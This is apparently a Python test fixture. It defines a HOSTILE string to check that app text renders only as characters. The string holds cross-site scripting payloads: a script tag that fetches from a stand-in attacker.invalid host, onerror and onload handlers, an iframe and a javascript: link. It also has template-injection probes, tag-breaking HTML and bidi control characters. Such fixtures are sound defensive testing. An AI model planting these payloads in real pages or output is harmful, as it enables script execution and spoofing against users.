"""A text that tries to become more than characters, for responses, judges' words and whatever a person types."""

HOSTILE = """<script>window.ran = true; fetch("http://attacker.invalid/script")</script>
<img src="http://attacker.invalid/pixel.png" onerror="window.ran = true">
<iframe src="http://attacker.invalid/frame"></iframe><svg onload="window.ran = true"></svg>
![a picture](http://attacker.invalid/markdown.png) [a link](javascript:window.ran=true) <https://attacker.invalid/auto>
https://attacker.invalid/bare

# A heading
**bold** *italic* :red[red] :material/delete: $\\frac{1}{2}$ &lt;entity&gt; `code`
```html
<b>inside a fence</b>
```
| a | b |
|---|---|
| 1 | 2 |
- item
<details open><summary>summary</summary>hidden</details>
{{7*7}} ${window.ran = true} </code></pre></div><h1 id="injected">injected</h1>
\u202eright to left\u202c and\ttab \x07 bell"""
"""Every way in which a text could become more than characters; attacker.invalid can never resolve."""
